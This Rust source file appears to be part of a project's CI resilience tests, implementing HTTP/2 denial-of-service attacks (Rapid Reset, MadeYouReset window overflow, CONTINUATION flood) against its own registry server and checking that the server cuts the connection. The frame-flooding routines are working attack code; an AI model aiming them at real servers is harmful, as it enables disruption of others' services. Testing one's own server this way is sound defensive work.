//! Streams that are opened to be reset, by the attacker or by the registry.

use std::time::Duration;

use anyhow::{Result, ensure};

use super::{
    arena::{self, Arena, Bounds, Onslaught, Span},
    fates::Fates,
    link::{End, Link, source},
};
use crate::{
    ci::Outcome,
    faults::{
        Amount, Bench,
        http2::{self, CONTINUATION, END_HEADERS, END_STREAM, HEADERS, LARGEST_WINDOW, RST_STREAM},
    },
};

const LOOKUP: &str = "/p2pci.v1.Registry/Lookup";

/// Streams that one connection opens and resets, if it is let.
const PAIRS: Amount = Amount {
    full: 100_000,
    short: 10_000,
};

/// Frames of CONTINUATION that one connection sends, if it is let.
const CONTINUATIONS: usize = 1_000;

/// How long a connection stays on which everything has been sent.
const LAST_LOOK: Duration = Duration::from_millis(200);

/// Frames of a header block that a server reads before it gives up: the first one and a few that continue it.
const FRAMES_BORNE: usize = 7;

/// What is done for each stream goes out so many streams at a time.
const AT_ONCE: usize = 64;

/// Opens streams and resets them at once (CVE-2023-44487).
pub(super) fn rapid_reset(bench: &Bench) -> Result<Outcome> {
    arena::under(bench, Bounds::USUAL, |arena| reset_rapidly(arena, LOOKUP))
}

/// The attack itself, on whatever the arena names.
pub(super) fn reset_rapidly(arena: &Arena, path: &str) -> Result<Onslaught> {
    let head = http2::request_head(path, &arena.target.to_string(), &[])?;
    let pair = |stream| -> Result<Vec<u8>> {
        Ok([
            http2::frame(HEADERS, END_HEADERS | END_STREAM, stream, &head)?,
            http2::frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])?,
        ]
        .concat())
    };
    let told = again_and_again(arena, &per_stream(arena.pick(PAIRS), pair)?)?;
    told.onslaught("streams opened and reset", Some("GOAWAY ENHANCE_YOUR_CALM"))
}

/// Makes the registry reset streams, by windows that overflow (CVE-2025-8671).
pub(super) fn made_you_reset(bench: &Bench) -> Result<Outcome> {
    arena::under(bench, Bounds::USUAL, |arena| {
        let head = request_head(arena)?;
        let pair = |stream| -> Result<Vec<u8>> {
            Ok([
                http2::frame(HEADERS, END_HEADERS, stream, &head)?,
                http2::window_update(stream, LARGEST_WINDOW)?,
            ]
            .concat())
        };
        let told = again_and_again(arena, &per_stream(arena.pick(PAIRS), pair)?)?;
        told.onslaught("streams with a window that overflows", Some("GOAWAY ENHANCE_YOUR_CALM"))
    })
}

/// Sends a header block that never ends (CVE-2024-27316).
pub(super) fn continuation(bench: &Bench) -> Result<Outcome> {
    arena::under(bench, Bounds::USUAL, |arena| {
        let field = http2::header_block(&[("x", "y")])?;
        let mut pieces = vec![http2::frame(HEADERS, 0, 1, &request_head(arena)?)?];
        for _ in 0..CONTINUATIONS {
            pieces.push(http2::frame(CONTINUATION, 0, 1, &field)?);
        }
        let borne = one_by_one(arena, &pieces)?;
        ensure!(
            borne <= FRAMES_BORNE,
            "{borne} frames of an endless header block were borne"
        );
        let mut told =
            again_and_again(arena, &pieces)?.onslaught("frames of one endless header block", Some("GOAWAY"))?;
        told.told = format!("cut after {borne} frames where they come one by one; {}", told.told);
        Ok(told)
    })
}

/// Sends pieces with a pause after each, and tells how many were borne before the connection was cut.
fn one_by_one(arena: &Arena, pieces: &[Vec<u8>]) -> Result<usize> {
    const PAUSE: Duration = Duration::from_millis(20);
    let span = Span::of(Duration::from_secs(10));
    let mut link = Link::open(source(0), arena.target)?;
    link.send(&http2::greeting(&[])?, &span)?;
    for (sent, piece) in pieces.iter().enumerate() {
        if !link.send(piece, &span)? || link.await_end(&Span::of(PAUSE))? {
            return Ok(sent + 1);
        }
    }
    Ok(pieces.len())
}

fn request_head(arena: &Arena) -> Result<Vec<u8>> {
    http2::request_head(LOOKUP, &arena.target.to_string(), &[])
}

fn per_stream(count: usize, bytes: impl Fn(u32) -> Result<Vec<u8>>) -> Result<Vec<Vec<u8>>> {
    (1..).step_by(2).take(count).map(bytes).collect()
}

/// Connects, sends these pieces until the registry ends the connection, and begins again, as fast as it can.
pub(super) fn again_and_again(arena: &Arena, pieces: &[Vec<u8>]) -> Result<Fates> {
    let span = arena.span();
    let greeting = http2::greeting(&[])?;
    let batches: Vec<(u64, Vec<u8>)> = pieces
        .chunks(AT_ONCE)
        .map(|chunk| (chunk.len() as u64, chunk.concat()))
        .collect();
    let mut fates = Fates::default();
    for attempt in 0.. {
        if span.is_over() {
            break;
        }
        let (sent, end) = once(arena, attempt, &greeting, &batches, &span)?;
        fates.note(sent, end);
    }
    Ok(fates)
}

fn once(
    arena: &Arena,
    attempt: usize,
    greeting: &[u8],
    batches: &[(u64, Vec<u8>)],
    span: &Span,
) -> Result<(u64, Option<End>)> {
    let mut link = Link::open(source(attempt), arena.target)?;
    let mut sent = 0;
    if link.send(greeting, span)? {
        for (count, batch) in batches {
            if !link.send(batch, span)? {
                break;
            }
            sent += count;
        }
    }
    // What was sent before the end is still being looked at.
    let patience = Span::of(span.left().min(LAST_LOOK));
    link.await_end(&patience)?;
    Ok((sent, link.end().map(|(end, _)| end)))
}
